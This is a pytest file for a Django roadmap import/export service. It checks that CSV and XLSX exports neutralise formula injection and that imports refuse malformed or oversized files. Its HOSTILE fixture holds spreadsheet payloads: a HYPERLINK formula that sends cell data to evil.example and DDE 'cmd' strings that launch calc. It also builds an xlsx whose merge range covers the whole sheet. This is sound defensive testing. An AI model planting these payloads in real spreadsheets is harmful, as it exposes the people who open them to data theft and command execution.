"""Issue 7, «Hostile input»: formula injection in exports and the remaining 500s of the import.
Each test starts from the reproduction of the finding."""

import csv
import io
import threading
import zipfile
from datetime import date

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from measures.exporting import export_roadmap
from measures.importing import read_roadmap_file
from measures.models import Roadmap, RoadmapImport
from measures.services import ImportRefused, roadmap_import_confirm, roadmap_import_preview
from tests import factories

Y2022 = (date(2022, 1, 1), date(2022, 12, 31))
HEADER = ["№ п/п", "Наименование мероприятия", "Ответственные исполнители", "Сроки реализации",
          "Планируемый результат"]  # fmt: skip
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&B2,"Нажмите")',
    "owners_text": "=cmd|' /C calc'!A0",
    "deadline_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "planned_result": "- пункт первый\n- пункт второй",
    "number": "-2+3",
}


def csv_bytes(rows: list[list[str]], encoding: str = "utf-8", delimiter: str = ";") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding)


@pytest.fixture
def hostile_roadmap(db):
    roadmap = factories.RoadmapFactory()
    factories.MeasureFactory(roadmap=roadmap, position=1, **HOSTILE)
    factories.MeasureFactory(roadmap=roadmap, position=2, number="2", title="+7 (495) 000-00-00")
    return roadmap


# --- 4. Formula injection in exports ----------------------------------------------------------


def test_xlsx_export_writes_formula_like_text_as_text(hostile_roadmap):
    sheet = openpyxl.load_workbook(io.BytesIO(export_roadmap(hostile_roadmap, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value: cell for cell in cells}
    for text in (*HOSTILE.values(), "+7 (495) 000-00-00"):
        assert text in values, text  # reads the same to a person
        assert values[text].data_type == "s" and values[text].quotePrefix
    assert sheet.title == hostile_roadmap.title  # short enough to name the sheet
    assert sheet.freeze_panes == "A2"


def test_csv_export_neutralises_formula_cells_and_reads_back_the_same(hostile_roadmap):
    data = export_roadmap(hostile_roadmap, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Наименование мероприятия"] == "'" + HOSTILE["title"]
    assert first["Ответственные исполнители"] == "'" + HOSTILE["owners_text"]
    assert first["Сроки реализации"] == "'" + HOSTILE["deadline_text"]
    assert first["Планируемый результат"] == "'- пункт первый\n- пункт второй"
    assert first["№ п/п"] == "'-2+3"
    assert rows[2][2] == "'+7 (495) 000-00-00"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)

    parsed = read_roadmap_file("план.csv", data, Y2022).as_dict()
    back = parsed["measures"][0]
    assert back["title"] == HOSTILE["title"]
    assert back["owners_text"] == HOSTILE["owners_text"]
    assert back["planned_result"] == HOSTILE["planned_result"]


def test_xlsx_export_reads_back_the_same(hostile_roadmap):
    parsed = read_roadmap_file("план.xlsx", export_roadmap(hostile_roadmap, "xlsx"), Y2022)
    back = parsed.as_dict()["measures"][0]
    assert (back["number"], back["title"], back["owners_text"]) == (
        HOSTILE["number"],
        HOSTILE["title"],
        HOSTILE["owners_text"],
    )


# --- 8. Remaining 500s at import --------------------------------------------------------------


@pytest.mark.django_db
def test_a_section_number_longer_than_its_column_is_refused_at_preview():
    rows = [
        HEADER,
        ["Раздел 123456789012345678", "Кадровое обеспечение", "", "", ""],
        ["1", "Семинар", "Отдел", "Май 2022г.", ""],
    ]
    record = roadmap_import_preview(
        municipality=factories.MunicipalityFactory(), file_name="план.csv",
        data=csv_bytes(rows), period=Y2022, title="План",
    )  # fmt: skip
    assert record.status == RoadmapImport.Status.REFUSED
    assert {"row": 2, "column": "№ п/п", "message": "Номер раздела длиннее 20 символов."} in (
        record.parsed["errors"]
    )
    with pytest.raises(ImportRefused):
        roadmap_import_confirm(roadmap_import=record)
    assert not Roadmap.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_two_previews_of_one_file_confirmed_at_once_give_one_roadmap_and_a_refusal():
    municipality = factories.MunicipalityFactory()
    data = csv_bytes([HEADER, ["1", "Семинар", "Отдел", "Май 2022г.", "Проведён"]])
    records = [
        roadmap_import_preview(
            municipality=municipality, file_name="план.csv", data=data, period=Y2022, title=title
        )
        for title in ("План А", "План Б")
    ]
    barrier = threading.Barrier(2)
    outcomes: list[object] = []

    def confirm(record: RoadmapImport) -> None:
        try:
            barrier.wait()
            outcomes.append(roadmap_import_confirm(roadmap_import=record))
        except ImportRefused as exc:
            outcomes.append(exc)
        except Exception as exc:  # what the finding saw: an IntegrityError, a 500
            outcomes.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=confirm, args=(record,)) for record in records]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    kinds = sorted(type(outcome).__name__ for outcome in outcomes)
    assert kinds == ["ImportRefused", "Roadmap"], outcomes
    refusal = next(o for o in outcomes if isinstance(o, ImportRefused))
    assert str(refusal).startswith("Этот файл уже импортирован")
    assert Roadmap.objects.count() == 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "koi8_r", "cp1251", "utf-8-sig"])
def test_csv_in_every_russian_office_encoding_is_read(encoding):
    header = [HEADER[0].replace("№", "N"), *HEADER[1:]]  # KOI8-R has no «№»
    rows = [header, ["1", "Семинар для директоров", "Отдел образования", "Май 2022г.", "Итог"]]
    delimiter = "\t" if encoding.startswith("utf-16") else ";"
    parsed = read_roadmap_file("план.csv", csv_bytes(rows, encoding, delimiter), Y2022).as_dict()
    assert parsed["errors"] == []
    assert parsed["measures"][0]["title"] == "Семинар для директоров"
    assert parsed["measures"][0]["owners_text"] == "Отдел образования"


@pytest.mark.parametrize("encoding", ["koi8_r", "cp1251"])
def test_capitals_and_abbreviations_do_not_mislead_the_encoding_guess(encoding):
    rows = [
        ["N", "НАИМЕНОВАНИЕ МЕРОПРИЯТИЯ", "ОТВЕТСТВЕННЫЕ", "СРОКИ", "РЕЗУЛЬТАТ"],
        ["1", "Совещание", "МОУО", "2022", "Протокол"],
    ]
    parsed = read_roadmap_file("план.csv", csv_bytes(rows, encoding), Y2022).as_dict()
    assert parsed["measures"][0]["title"] == "Совещание"
    assert parsed["measures"][0]["owners_text"] == "МОУО"


def test_an_apostrophe_the_user_typed_survives_the_csv_round_trip(db):
    roadmap = factories.RoadmapFactory()
    factories.MeasureFactory(roadmap=roadmap, title="'=не формула", owners_text="'Отдел'")
    parsed = read_roadmap_file("план.csv", export_roadmap(roadmap, "csv"), Y2022).as_dict()
    assert parsed["measures"][0]["title"] == "'=не формула"
    assert parsed["measures"][0]["owners_text"] == "'Отдел'"


@pytest.mark.django_db
def test_control_characters_in_the_approving_act_do_not_break_the_docx():
    act = factories.LegalActFactory(number="31\x0b", issuer__name_genitive="управления\x0bобр")
    roadmap = factories.RoadmapFactory(
        municipality=act.municipality, approved_by=act, status=Roadmap.Status.APPROVED
    )
    factories.MeasureFactory(roadmap=roadmap)
    assert export_roadmap(roadmap, "docx").startswith(b"PK")


def test_a_csv_without_a_table_names_the_encodings_understood():
    parsed = read_roadmap_file("план.csv", "просто текст\nи ещё".encode("koi8_r"), Y2022)
    messages = [error["message"] for error in parsed.as_dict()["errors"]]
    assert any("UTF-8, UTF-16 (Юникод), Windows-1251 и KOI8-R" in m for m in messages)


@pytest.mark.django_db
def test_the_command_line_refuses_in_one_russian_line(tmp_path):
    municipality = factories.MunicipalityFactory()
    bad = tmp_path / "план.docx"
    bad.write_bytes(b"not a zip at all")
    with pytest.raises(CommandError) as refused:
        call_command("import_roadmap", str(bad), "--municipality", str(municipality.pk))
    message = str(refused.value)
    assert "\n" not in message
    assert message.startswith("Файл не принят: Файл повреждён или это не документ Word")

    bad_rows = tmp_path / "план.csv"
    bad_rows.write_bytes(csv_bytes([HEADER, ["1", "", "Отдел", "Май 2022г.", ""]]))
    with pytest.raises(CommandError) as refused:
        call_command(
            "import_roadmap", str(bad_rows), "--municipality", str(municipality.pk),
            "--period", "2022-01-01:2022-12-31", "--title", "План",
        )  # fmt: skip
    assert "\n" not in str(refused.value)
    assert "строка 2" in str(refused.value) and "Нет наименования мероприятия." in str(
        refused.value
    )
    assert not Roadmap.objects.exists()


def test_an_xlsx_merge_over_the_whole_sheet_is_refused_before_it_is_expanded():
    workbook = openpyxl.Workbook()
    workbook.active.append(["№", "Наименование мероприятия", "Срок"])
    workbook.active.merge_cells("A2:B3")
    buffer = io.BytesIO()
    workbook.save(buffer)
    # the merge widened to the whole sheet in the XML (openpyxl itself would build every cell)
    hostile = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(hostile, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b'ref="A2:B3"', b'ref="A2:XFD1048576"')
                assert b"XFD1048576" in content
            target.writestr(item, content)
    period = (date(2023, 1, 1), date(2023, 12, 31))
    parsed = read_roadmap_file("план.xlsx", hostile.getvalue(), period)
    assert [e.message for e in parsed.errors] == [
        "В таблице больше 100\u00a0000 объединённых ячеек: столько за один импорт не "
        "принимается. Разделите файл на части."
    ]
